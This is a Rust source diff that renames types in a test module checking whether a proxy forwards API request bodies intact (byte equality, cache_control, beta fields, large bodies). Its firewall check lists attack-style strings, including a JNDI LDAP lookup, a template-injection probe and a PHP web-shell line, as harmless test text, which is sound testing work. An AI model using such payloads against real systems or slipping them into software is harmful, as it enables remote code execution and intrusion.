@@ -1,9 +1,9 @@
 //! Checks of the request body: byte for byte where possible, and for every field that the client relies on.
 
-use super::bench::{Bench, is_the_providers, message, refusal};
-use super::check::{BlackBox, Check};
-use super::echo::Script;
-use super::finding::{Finding, Outcome, Verdict};
+use super::check::{BlackBox, ContractCheck};
+use super::contract_run::{ContractRun, is_the_providers, message, refusal};
+use super::echo::EchoScript;
+use super::finding::{ContractFinding, ContractOutcome, ContractVerdict};
 use super::requests::{UNKNOWN, for_free, plain_body, rich_body};
 use serde_json::{Value, json};
 
@@ -11,8 +11,8 @@ const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
 /// As large as in a long session.
 const LARGE: usize = 200 * 1000;
 
-pub(super) const CHECKS: &[Check] = &[
-    Check {
+pub(super) const CHECKS: &[ContractCheck] = &[
+    ContractCheck {
         id: "body-bytes",
         group: "body",
         title: "the body reaches the provider byte for byte",
@@ -20,7 +20,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::No,
         run: bytes,
     },
-    Check {
+    ContractCheck {
         id: "system-array",
         group: "body",
         title: "the system array keeps its blocks, their order and the attribution block first",
@@ -28,7 +28,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::No,
         run: |bench| Ok(same(bench, "/system", "it")?.around("CLAUDE_CODE_ATTRIBUTION_HEADER=0")),
     },
-    Check {
+    ContractCheck {
         id: "cache-control",
         group: "body",
         title: "cache_control stays on system blocks, tools and messages",
@@ -36,7 +36,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::No,
         run: cache_control,
     },
-    Check {
+    ContractCheck {
         id: "thinking",
         group: "body",
         title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
@@ -44,7 +44,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::No,
         run: |bench| Ok(same(bench, "/thinking", "it")?.around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1")),
     },
-    Check {
+    ContractCheck {
         id: "beta-fields",
         group: "body",
         title: "context_management, output_config and tool fields reach the provider with their betas",
@@ -52,7 +52,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::No,
         run: beta_fields,
     },
-    Check {
+    ContractCheck {
         id: "unknown-fields",
         group: "body",
         title: "unknown fields reach the provider",
@@ -60,7 +60,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::Free,
         run: unknown,
     },
-    Check {
+    ContractCheck {
         id: "large-body",
         group: "body",
         title: "a body of 200 kB passes",
@@ -68,7 +68,7 @@ pub(super) const CHECKS: &[Check] = &[
         black_box: BlackBox::Free,
         run: large,
     },
-    Check {
+    ContractCheck {
         id: "waf",
         group: "body",
         title: "bodies that contain shell, SQL, HTML and paths pass",
@@ -78,24 +78,24 @@ pub(super) const CHECKS: &[Check] = &[
     },
 ];
 
-fn bytes(bench: &Bench) -> Verdict {
+fn bytes(bench: &ContractRun) -> ContractVerdict {
     let sent = plain_body(bench.model());
-    let (tried, arrived) = bench.through_echo(Script::Whole, bench.ask(&sent));
+    let (tried, arrived) = bench.through_echo(EchoScript::Whole, bench.ask(&sent));
     let Some(request) = arrived.first() else {
-        return Err(Finding::broken(refusal(bench.heard(&tried)?)));
+        return Err(ContractFinding::broken(refusal(bench.heard(&tried)?)));
     };
     if let Some(encoding) = request.header("content-encoding") {
-        return Ok(Finding::degraded(format!("it arrived compressed: {encoding}")));
+        return Ok(ContractFinding::degraded(format!("it arrived compressed: {encoding}")));
     }
     if request.body == sent.as_bytes() {
-        return Ok(Finding::works(format!("{} bytes", sent.len())));
+        return Ok(ContractFinding::works(format!("{} bytes", sent.len())));
     }
     let (sent, got) = (serde_json::from_str::<Value>(&sent).unwrap_or_default(), request.json());
     let how = match sent == got {
         true => "same values, different bytes".to_owned(),
         false => difference(&sent, &got),
     };
-    Ok(Finding::degraded(format!("re-serialized: {how}")))
+    Ok(ContractFinding::degraded(format!("re-serialized: {how}")))
 }
 
 /// The first difference between two objects, in words.
@@ -117,31 +117,35 @@ fn difference(sent: &Value, got: &Value) -> String {
 }
 
 /// The rich body as it was sent and as it arrived.
-fn rich(bench: &Bench) -> Result<(Value, Value), Finding> {
+fn rich(bench: &ContractRun) -> Result<(Value, Value), ContractFinding> {
     let got = bench.arrived()?.json();
     Ok((rich_body(bench.model()), got))
 }
 
 /// A part of the rich body, called `name` in the evidence, must arrive unchanged.
-fn same(bench: &Bench, pointer: &str, name: &str) -> Verdict {
+fn same(bench: &ContractRun, pointer: &str, name: &str) -> ContractVerdict {
     let (sent, got) = rich(bench)?;
     let Some(got) = got.pointer(pointer) else {
-        return Ok(Finding::broken(format!("{name} did not arrive")));
+        return Ok(ContractFinding::broken(format!("{name} did not arrive")));
     };
     let shown: String = got.to_string().chars().take(160).collect();
     let is_same = Some(got) == sent.pointer(pointer);
-    Ok(Finding::works_or_broken(is_same, "unchanged", format!("{name} arrived as {shown}")))
+    Ok(ContractFinding::works_or_broken(is_same, "unchanged", format!("{name} arrived as {shown}")))
 }
 
 /// The places where something else arrived, or nothing.
-fn lost(places: &[&str], sent: &Value, got: &Value) -> Finding {
+fn lost(places: &[&str], sent: &Value, got: &Value) -> ContractFinding {
     let lost: Vec<_> =
         places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
     let evidence = format!("{} fields", places.len());
-    Finding::works_or_broken(lost.is_empty(), evidence, format!("lost or changed: {}", lost.join(", ")))
+    ContractFinding::works_or_broken(
+        lost.is_empty(),
+        evidence,
+        format!("lost or changed: {}", lost.join(", ")),
+    )
 }
 
-fn cache_control(bench: &Bench) -> Verdict {
+fn cache_control(bench: &ContractRun) -> ContractVerdict {
     let places = ["/system/1/cache_control", "/tools/0/cache_control", "/messages/0/content/1/cache_control"];
     // regardless of position: another check covers the order
     let marks = |value: &Value| {
@@ -153,7 +157,7 @@ fn cache_control(bench: &Bench) -> Verdict {
     let (sent, got) = rich(bench)?;
     let wanted = marks(&sent);
     Ok(match wanted == marks(&got) {
-        true => Finding::works(format!("{} marks", wanted.len())),
+        true => ContractFinding::works(format!("{} marks", wanted.len())),
         false => lost(&places, &sent, &got),
     })
 }
@@ -169,13 +173,13 @@ fn collect(value: &Value, into: &mut Vec<String>) {
     }
 }
 
-fn beta_fields(bench: &Bench) -> Verdict {
+fn beta_fields(bench: &ContractRun) -> ContractVerdict {
     let (sent, got) = rich(bench)?;
     let places = ["/context_management", "/output_config", "/tools/0/defer_loading"];
     Ok(lost(&places, &sent, &got).around(NO_BETAS))
 }
 
-fn unknown(bench: &Bench) -> Verdict {
+fn unknown(bench: &ContractRun) -> ContractVerdict {
     if bench.echo().is_some() {
         return same(bench, &format!("/{UNKNOWN}"), UNKNOWN);
     }
@@ -183,28 +187,28 @@ fn unknown(bench: &Bench) -> Verdict {
     body[UNKNOWN] = json!(true);
     let said = bench.refused(&bench.send(&bench.ask(body)))?;
     let fault = format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}");
-    Ok(Finding::works_or_broken(said.contains(UNKNOWN), format!("the provider: {said}"), fault))
+    Ok(ContractFinding::works_or_broken(said.contains(UNKNOWN), format!("the provider: {said}"), fault))
 }
 
 /// A body that must pass: it reaches the echo unchanged, or the provider refuses its model.
-fn passes(bench: &Bench, text: &str) -> Verdict {
+fn passes(bench: &ContractRun, text: &str) -> ContractVerdict {
     let mut body = for_free(text);
     if bench.echo().is_some() {
         body["model"] = json!(bench.model());
     }
-    let (tried, arrived) = bench.through_echo(Script::Whole, bench.ask(body));
+    let (tried, arrived) = bench.through_echo(EchoScript::Whole, bench.ask(body));
     let heard = bench.heard(&tried)?;
     if bench.echo().is_none() {
         let passed = is_the_providers(heard) && heard.status != 413;
-        return Ok(Finding::works_or_broken(passed, message(heard), refusal(heard)));
+        return Ok(ContractFinding::works_or_broken(passed, message(heard), refusal(heard)));
     }
-    let request = arrived.first().ok_or_else(|| Finding::broken(refusal(heard)))?;
+    let request = arrived.first().ok_or_else(|| ContractFinding::broken(refusal(heard)))?;
     let kept = request.json().to_string().contains(json!(text).to_string().trim_matches('"'));
     let evidence = format!("{} bytes", request.body.len());
-    Ok(Finding::works_or_broken(kept, evidence, "it arrived with changed text"))
+    Ok(ContractFinding::works_or_broken(kept, evidence, "it arrived with changed text"))
 }
 
-fn large(bench: &Bench) -> Verdict {
+fn large(bench: &ContractRun) -> ContractVerdict {
     passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
 }
 
@@ -217,13 +221,13 @@ const SUSPICIOUS: &[(&str, &str)] = &[
     ("templates", "${jndi:ldap://192.0.2.1/a} {{7*7}} <?php system($_GET['c']); ?>"),
 ];
 
-fn waf(bench: &Bench) -> Verdict {
+fn waf(bench: &ContractRun) -> ContractVerdict {
     for (what, text) in SUSPICIOUS {
         let finding = passes(bench, text).unwrap_or_else(|finding| finding);
-        if finding.outcome != Outcome::Works {
-            return Err(Finding::broken(format!("{what}: {}", finding.evidence)));
+        if finding.outcome != ContractOutcome::Works {
+            return Err(ContractFinding::broken(format!("{what}: {}", finding.evidence)));
         }
     }
     let kinds: Vec<_> = SUSPICIOUS.iter().map(|(what, _)| *what).collect();
-    Ok(Finding::works(kinds.join(", ")))
+    Ok(ContractFinding::works(kinds.join(", ")))
 }
